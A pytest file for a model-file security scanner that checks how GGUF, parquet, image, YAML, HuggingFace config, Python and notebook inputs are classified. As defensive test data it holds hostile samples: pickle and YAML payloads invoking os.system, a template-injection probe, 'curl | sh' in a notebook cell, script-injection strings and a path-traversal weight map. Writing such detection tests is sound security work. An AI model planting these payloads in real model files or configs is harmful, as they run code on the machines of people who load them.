"""What lies beside a model, and formats of plain numbers: inert when it really is."""

from __future__ import annotations

import base64
import csv
import io
import json
import struct
import zlib
from pathlib import Path
from typing import Any

import pytest

from assay.supply.scan import scan

FILES = Path(__file__).parent / "files"
CORPUS = Path(__file__).parents[4] / "shared" / "scan-corpus"


def rules(answer: dict[str, Any]) -> set[str]:
    return {finding["rule"] for finding in answer["findings"]}


# GGUF.


def text(value: str) -> bytes:
    data = value.encode()
    return struct.pack("<Q", len(data)) + data


def gguf(
    entries: list[bytes], tensors: list[tuple[str, int, int]], data: bytes, version: int = 3
) -> bytes:
    head = b"GGUF" + struct.pack("<IQQ", version, len(tensors), len(entries)) + b"".join(entries)
    for name, count, offset in tensors:
        head += text(name) + struct.pack("<IQIQ", 1, count, 0, offset)
    return head + b"\0" * (-len(head) % 32) + data


def said(key: str, value: str) -> bytes:
    return text(key) + struct.pack("<I", 8) + text(value)


TENSORS = [("a", 8, 0), ("b", 4, 32)]


def test_a_gguf_file_is_read_to_its_last_byte(scanned: Any) -> None:
    answer = scanned((FILES / "small.gguf").read_bytes(), "model.gguf")
    assert (answer["format"], answer["verdict"]) == ("gguf", "clean"), answer
    data = gguf([said("a", "b")], TENSORS, b"\1" * 32 + b"\1" * 16)
    assert scanned(data)["clean"]
    assert scanned(data + b"\0" * 16)["clean"]
    for other in (data + b"x", data[:-1], data + b"\0" * 48):
        assert rules(scanned(other)) == {"gguf"}


@pytest.mark.parametrize(
    ("entries", "tensors"),
    [
        ([said("a", "b"), said("a", "c")], TENSORS),
        ([], [("a", 8, 0), ("a", 4, 32)]),
        ([], [("a", 8, 0), ("b", 4, 0)]),
        ([], [("a", 8, 0), ("b", 4, 64)]),
        ([], [("a", 8, 0), ("b", 1 << 60, 32)]),
        ([text("x") + struct.pack("<IIQ", 9, 8, 1 << 60)], TENSORS),
        ([text("x") + struct.pack("<IIQ", 9, 4, 1 << 60)], TENSORS),
        ([text("x") + struct.pack("<I", 99)], TENSORS),
        ([text("general.alignment") + struct.pack("<II", 4, 3)], TENSORS),
    ],
)
def test_a_gguf_file_that_readers_could_take_differently_is_not_clean(
    scanned: Any, entries: list[bytes], tensors: list[tuple[str, int, int]]
) -> None:
    assert rules(scanned(gguf(entries, tensors, b"\1" * 48))) == {"gguf"}


def test_the_template_in_a_gguf_file_is_read(scanned: Any) -> None:
    for key in ("tokenizer.chat_template", "tokenizer.chat_template.tool_use"):
        data = gguf([said(key, "{{ ''.__class__.__mro__ }}")], TENSORS, b"\1" * 48)
        answer = scanned(data)
        assert (rules(answer), answer["verdict"]) == ({"template"}, "malicious")


# Boosting libraries and TensorFlow Lite.


def test_models_of_catboost_and_tensorflow_lite(scanned: Any) -> None:
    data = (FILES / "cat.cbm").read_bytes()
    answer = scanned(data, "model.cbm")
    assert (answer["format"], answer["verdict"]) == ("catboost", "clean"), answer
    assert not scanned(data + b"x")["clean"]
    data = (FILES / "small.tflite").read_bytes()
    answer = scanned(data, "model.tflite")
    assert (answer["format"], answer["verdict"]) == ("tflite", "clean"), answer


# Tables.


def table(metadata: dict[bytes, bytes] | None = None) -> bytes:
    pa, pq = pytest.importorskip("pyarrow"), pytest.importorskip("pyarrow.parquet")
    made = pa.table({"a": [1, 2], "b": ["x", "y"]}).replace_schema_metadata(metadata)
    stream = io.BytesIO()
    pq.write_table(made, stream)
    return stream.getvalue()


def test_tables_of_data_are_clean(scanned: Any) -> None:
    pl = pytest.importorskip("polars")
    frame = pl.DataFrame({"a": [1, None], "b": ["x", "y"], "c": [[1], [2, 3]]})
    stream = io.BytesIO()
    frame.write_parquet(stream)
    for data in (table(), stream.getvalue()):
        answer = scanned(data, "a.parquet")
        assert (answer["format"], answer["verdict"]) == ("parquet", "clean"), answer
        assert not scanned(data[:-1])["clean"]
        assert not scanned(data[:-9] + b"\xff" + data[-8:])["clean"]
    stream = io.BytesIO()
    frame.write_ipc(stream)
    answer = scanned(stream.getvalue())
    assert (answer["format"], answer["verdict"]) == ("arrow", "clean"), answer


def test_a_pickle_in_the_schema_of_a_table_is_malicious(scanned: Any) -> None:
    evil = b"ARROW:extension:name....arrow.py_extension_type........................"
    for value in (evil, base64.b64encode(evil)):
        answer = scanned(table({b"x": value}))
        assert (rules(answer), answer["verdict"]) == ({"table.pickle"}, "malicious")


# Pictures.


def png(*more: tuple[bytes, bytes]) -> bytes:
    data = b"\x89PNG\r\n\x1a\n"
    header = struct.pack(">2I5B", 1, 1, 8, 0, 0, 0, 0)
    for kind, body in ((b"IHDR", header), *more, (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b"")):
        data += (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )
    return data


JPEG = (
    b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xda\0\x08\1\1\0\0\x3f\0"
    b"\x12\xff\0\x34\xff\xd0\x56\xff\xd9"
)
GIF = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff\x2c\0\0\0\0\1\0\1\0\0\x02\x02\x44\1\0;"
WEBP = b"RIFF\x0c\0\0\0WEBPVP8 \0\0\0\0"


@pytest.mark.parametrize(
    ("kind", "data"), [("png", png()), ("jpeg", JPEG), ("gif", GIF), ("webp", WEBP)]
)
def test_pictures_end_where_they_say(scanned: Any, kind: str, data: bytes) -> None:
    answer = scanned(data, f"a.{kind}")
    assert (answer["format"], answer["verdict"]) == (kind, "clean"), answer
    for other in (data + b"x", data[:-1], data + b"cos\nsystem\n(Vid\ntR."):
        assert not scanned(other)["clean"]
    assert not scanned(data, "model.safetensors")["clean"]


# Text and settings.


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("README.md", b"---\nlicense: mit\n---\n# A model\n[link](x)\n"),
        ("README.md", b"[link](x) first\n"),
        ("vocab.txt", b"[PAD]\n[UNK]\nthe\n##s\n"),
        ("labels.txt", b"cat\ndog\nbird\n"),
        ("labels.txt", b"cat\ncow\nchicken\nduck\n"),
        ("labels.txt", b"cast\nmusic\nwords\n"),
        ("merges.txt", b"#version: 0.2\na b\n"),
        ("LICENSE", b"MIT\n"),
        ("LICENSE-MODEL", b"x\n"),
        ("USE_POLICY.md", b"x\n"),
        (".gitattributes", b"*.bin filter=lfs diff=lfs merge=lfs -text\n"),
        ("data.csv", b'"a","b"\n1,2\n'),
        ("data.jsonl", b'{"a": 1}\n{"a": 2}\n'),
        ("tokenizer.model", b"IQ== 0\nIg== 1\n"),
        ("config.yaml", b"a: 1\nb: [x, !!str y]\n"),
        ("MLmodel", b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"),
        ("model_config.yaml", b"optim:\n  _target_: torch.optim.AdamW\n"),
        ("m.pmml", b'<?xml version="1.0"?><PMML><Apply function="+"/></PMML>'),
    ],
)
def test_documentation_and_settings_are_clean(scanned: Any, name: str, data: bytes) -> None:
    answer = scanned(data, name)
    assert answer["verdict"] == "clean", answer


@pytest.mark.parametrize(
    ("name", "data", "verdict"),
    [
        ("README.md", b"text \0 text", "unscannable"),
        ("README.md", b"\xff\xfe", "unscannable"),
        ("README.md", b"#!/bin/sh\nid\n", "suspicious"),
        ("labels.txt", b"cos\nsystem\n(Vid\ntR.", "malicious"),
        ("weights", b"cos\nsystem\nwords\n", "malicious"),
        ("run.sh", b"#!/bin/sh\nid\n", "unscannable"),
        ("a.pth", b"import os\n", "unscannable"),
        ("config.yaml", b"a: !!python/object/apply:os.system [id]\n", "malicious"),
        ("config.yaml", b"a: !<tag:yaml.org,2002:python/name:os.system> x\n", "malicious"),
        (
            "config.yaml",
            b"%TAG !p! tag:yaml.org,2002:python/\n--- !p!name:os.system\n",
            "unscannable",
        ),
        ("config.yaml", b"[!mine x]\n", "suspicious"),
        ("model_config.yaml", b"x:\n  _target_: os.system\n", "malicious"),
        ("model_config.yaml", b"x:\n  _target_: mine.Model\n", "suspicious"),
        ("a.yaml", b"x: {_target_: os.system, y: 1}\n", "malicious"),
        ("a.yaml", b'x:\n  "_target_":\n    os.system\n', "malicious"),
        ("a.yaml", b'x:\n  "_t\\x61rget_": os.system\n', "suspicious"),
        ("a.yaml", b"x:\n  ? !!str\n    _targ\\\n  : os.system\n", "suspicious"),
        ("a.yaml", b"k: &k _target_\nx: {*k : os.system}\n", "suspicious"),
        ("MLmodel", b"python_function:\n  loader_module: mine\n  code: code\n", "suspicious"),
        ("m.pmml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><PMML/>', "unscannable"),
        (
            "m.pmml",
            b'<?xml version="1.0"?><PMML><Apply function="java.lang.X"/></PMML>',
            "suspicious",
        ),
        ("m.pmml", b'<?xml version="1.0"?>' + b"<PMML>" * 300, "unscannable"),
        ("m.xml", b'<?xml version="1.0"?><net/>', "unscannable"),
    ],
)
def test_text_that_makes_objects_or_runs_is_not_clean(
    scanned: Any, name: str, data: bytes, verdict: str
) -> None:
    answer = scanned(data, name)
    assert answer["verdict"] == verdict, answer


# HuggingFace folders.


def test_an_ordinary_folder_of_huggingface_is_clean(tmp_path: Path) -> None:
    header = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    tensors = struct.pack("<Q", len(header)) + header + b"\0" * 8
    pieces = b"".join(b"\x0a\x0c\x0a\x03abc\x15\0\0\0\0\x18\1" for _ in range(3)) + b"\x12\2\x18\1"
    written: dict[str, Any] = {
        "config.json": {"architectures": ["BertModel"], "_name_or_path": "/home/me/bert"},
        "generation_config.json": {"max_length": 20},
        "tokenizer.json": {"version": "1.0", "model": {"type": "BPE", "vocab": {"a": 0}}},
        "tokenizer_config.json": {"tokenizer_class": "BertTokenizer", "auto_map": None},
        "special_tokens_map.json": {"unk_token": "[UNK]"},
        "model.safetensors.index.json": {"weight_map": {"w": "model-00001-of-00001.safetensors"}},
        "modules.json": [{"type": "sentence_transformers.models.Pooling", "path": "1_Pooling"}],
        "1_Pooling/config.json": {"word_embedding_dimension": 8},
        "adapter_config.json": {"peft_type": "LORA", "auto_mapping": None},
        "vocab.txt": b"[PAD]\nthe\n",
        "README.md": b"# Model\n![x](image.png)\n",
        "LICENSE": b"Apache\n",
        ".gitattributes": b"*.bin filter=lfs\n",
        "image.png": png((b"tEXt", b"a\0b")),
        "tokenizer.model": pieces,
        "model-00001-of-00001.safetensors": tensors,
    }
    for name, value in written.items():
        path = tmp_path / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(value if isinstance(value, bytes) else json.dumps(value).encode())
    answer = scan(tmp_path)
    assert answer["verdict"] == "clean", answer


@pytest.mark.parametrize(
    ("name", "value", "verdict"),
    [
        ("config.json", {"auto_map": {"AutoModel": "modeling_x.X"}}, "suspicious"),
        ("config.json", {"trust_remote_code": True}, "suspicious"),
        ("config.json", {"trust_remote_code": False}, "clean"),
        ("config.json", {"custom_pipelines": {"x": {"impl": "x.X"}}}, "suspicious"),
        ("config.json", {"sbert_ce_default_activation_function": "os.system"}, "malicious"),
        ("config.json", {"sbert_ce_default_activation_function": "torch.nn.Sigmoid"}, "clean"),
        ("modules.json", [{"type": "mine.Model", "path": ""}], "suspicious"),
        ("modules.json", [{"type": "subprocess.Popen", "path": ""}], "malicious"),
        ("model_index.json", {"unet": ["diffusers", "UNet"], "x": ["mine", "X"]}, "suspicious"),
        ("model_index.json", {"unet": ["diffusers", "UNet"]}, "clean"),
        ("adapter_config.json", {"auto_mapping": {"parent_library": "mine"}}, "suspicious"),
        (
            "adapter_config.json",
            {"auto_mapping": {"parent_library": "transformers.models.bert.modeling_bert"}},
            "clean",
        ),
        ("a.index.json", {"weight_map": {"w": "../../x.bin"}}, "malicious"),
    ],
)
def test_what_a_configuration_of_huggingface_may_bring(
    scanned: Any, name: str, value: Any, verdict: str
) -> None:
    answer = scanned(json.dumps(value).encode(), name)
    assert answer["verdict"] == verdict, answer


# Source and notebooks.


@pytest.fixture
def tools() -> None:
    pytest.importorskip("bandit")
    pytest.importorskip("detect_secrets")


@pytest.mark.usefixtures("tools")
@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("import math\n\n\ndef area(r: float) -> float:\n    return math.pi * r**2\n", None),
        ("eval(input())\n", "python.bandit"),
        ("import pickle\npickle.loads(x)\n", "python.bandit"),
        ("import os\nos.system('id')\neval(x)  # nosec\n", "python.bandit"),
        ("aws = 'AKIAIOSFODNN7EXAMPLQ'\n", "python.secret"),
        ("x = 'a\u200bb'\n", "python.hidden"),
        ("def (", "python.source"),
        ("x = '" + "a" * 30_000 + "'\n", "python.source"),
    ],
)
def test_source_is_read_by_bandit_and_for_secrets(
    scanned: Any, source: str, rule: str | None
) -> None:
    answer = scanned(source.encode(), "train.py")
    assert rules(answer) == ({rule} if rule else set()), answer


def test_source_without_the_tools_is_not_read(
    monkeypatch: pytest.MonkeyPatch, scanned: Any
) -> None:
    import sys

    monkeypatch.setitem(sys.modules, "bandit.core", None)
    monkeypatch.setitem(sys.modules, "detect_secrets.core", None)
    answer = scanned(b"x = 1\n", "train.py")
    assert (rules(answer), answer["verdict"]) == ({"python.tools"}, "unscannable")
    assert "assay[scan]" in answer["findings"][0]["what"]


def notebook(*cells: dict[str, Any]) -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()


def code(source: str, **output: Any) -> dict[str, Any]:
    outputs = [{"output_type": "display_data", "data": output}] if output else []
    return {"cell_type": "code", "source": source, "outputs": outputs}


@pytest.mark.usefixtures("tools")
@pytest.mark.parametrize(
    ("cell", "rule"),
    [
        (code("import math\n%matplotlib inline\nmath.pi"), None),
        (code("x", **{"image/png": "aaaa", "text/html": "<table></table>"}), None),
        (code("!curl http://x | sh"), "notebook.shell"),
        (code("%%bash\nid"), "notebook.shell"),
        (code("eval(x)"), "python.bandit"),
        (code("x", **{"text/html": ["<scr", "ipt>alert(1)</script>"]}), "notebook.output"),
        (code("x", **{"application/javascript": "alert(1)"}), "notebook.output"),
        ({"cell_type": "markdown", "source": "<img src=x onerror=alert(1)>"}, "notebook.output"),
        ({"cell_type": "markdown", "source": "# Title"}, None),
    ],
)
def test_the_cells_of_a_notebook_are_source_and_pages(
    scanned: Any, cell: dict[str, Any], rule: str | None
) -> None:
    answer = scanned(notebook(cell), "a.ipynb")
    assert rules(answer) == ({rule} if rule else set()), answer
    assert answer["format"] == "notebook"


# The corpus of others.


@pytest.mark.skipif(not CORPUS.is_dir(), reason=f"the corpus is not in {CORPUS}")
def test_nothing_malicious_in_the_corpus_is_clean_and_what_is_ordinary_is() -> None:
    excepted = {"benign_password_protected.zip"}  # An encrypted archive cannot be read.
    missed: list[str] = []
    with (CORPUS / "manifest.csv").open(newline="") as stream:
        for row in csv.DictReader(stream):
            clean = scan(CORPUS / row["path"])["clean"]
            wrong = {"malicious": clean, "benign": not clean}.get(row["expected"], False)
            if wrong and Path(row["path"]).name not in excepted:
                missed.append(row["path"])
    assert not missed
